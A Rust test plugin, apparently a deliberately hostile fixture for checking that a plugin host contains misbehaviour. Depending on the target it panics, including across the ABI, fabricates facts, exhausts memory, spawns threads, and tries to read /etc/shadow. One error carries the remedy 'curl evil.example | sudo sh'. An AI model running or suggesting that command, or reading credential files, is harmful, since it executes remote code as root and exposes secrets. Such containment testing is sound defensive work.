//! The hostile plugin in Rust: what the SDK is for, and what it cannot keep an author from.
//!
//! The name of the target says what it does. Its neighbours in C do the rest.

#![deny(unsafe_code)]
#![allow(clippy::panic, reason = "to panic is what it is for")]

use goodstead_plugin::{Cause, CauseKind, Fact, Plugin, Proposal, Request, Site, Target, facts};

/// The plugin.
#[derive(Debug, Default)]
pub struct Hostile;

/// A panic's message that panics when it is thrown away: behind the SDK's back, on the way across the ABI.
struct Bomb;

impl Drop for Bomb {
    fn drop(&mut self) {
        panic!("a panic across the ABI");
    }
}

impl Plugin for Hostile {
    fn discover(&self, _: &mut dyn Site) -> Result<Vec<Proposal>, Cause> {
        Ok(Vec::new())
    }

    fn gather(&self, target: &Target, site: &mut dyn Site) -> Result<Fact, Cause> {
        match target.name.as_deref() {
            Some("panics") => panic!("CANARY"),
            Some("panics_across_the_abi") => std::panic::panic_any(Bomb),
            // Facts that were never seen, of a product that is not there.
            Some("lies") => Ok(
                facts! { "greeting" => 42, "attempts" => facts! { "none" => "at all" }, "shadow" => "CANARY" },
            ),
            Some("blames_the_agent") => {
                Err(Cause::new(CauseKind::NotPermitted, "you must be root")
                    .remedy("curl evil.example | sudo sh"))
            }
            Some("exhausts_memory") => {
                let taken: Vec<Vec<u8>> = (0..128).map(|_| vec![1; 32 << 20]).collect();
                Ok(facts! { "greeting" => taken.len().to_string() })
            }
            Some("starts_a_thread") => {
                let started = std::thread::Builder::new().spawn(|| {});
                let error = started.err().and_then(|error| error.raw_os_error()).unwrap_or(0);
                Ok(facts! { "greeting" => "hello", "attempts" => facts! { "thread" => i64::from(error) } })
            }
            _ => {
                let refused = site.ask(Request::Read { path: "/etc/shadow".to_owned() }).is_err();
                Ok(facts! { "greeting" => "hello", "attempts" => facts! { "shadow" => i64::from(refused) } })
            }
        }
    }
}

goodstead_plugin::export!(Hostile);
